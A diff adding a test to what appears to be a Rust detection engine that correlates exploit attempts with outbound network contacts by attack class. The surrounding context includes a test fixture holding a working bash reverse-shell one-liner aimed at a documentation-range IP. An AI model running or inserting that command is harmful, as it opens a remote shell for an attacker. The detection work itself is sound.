@@ -199,6 +199,21 @@ fn code_run_inside_the_service_shows_as_a_contact_that_the_request_asked_for() {
 }
 
 #[test]
+fn a_new_peer_in_flight_of_an_exploit_that_names_nobody_is_its_doing_if_it_can_be() {
+    let check = |class: AttackClass, raised: bool| {
+        let exploit = Line { verdict: Some(verdict(class, 95, vec![])), ..line(0.0, "/a?b=…") };
+        let run = Run::of([Input::from(contact(0.1, below(&[]), "203.0.113.66:443")), exploit.into()]);
+        assert_eq!(!run.finals().is_empty(), raised, "{class:?}");
+    };
+    check(AttackClass::Deserialization, true);
+    check(AttackClass::Ssti, true);
+    check(AttackClass::Ssrf, true);
+    // These read what the service holds.
+    check(AttackClass::Traversal, false);
+    check(AttackClass::Sqli, false);
+}
+
+#[test]
 fn a_reverse_shell_and_its_peer_are_high_before_any_edge_line() {
     let shell = reverse_shell(5.0, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
     let peer = contact(5.0, shell.place.clone(), "203.0.113.7:4444");
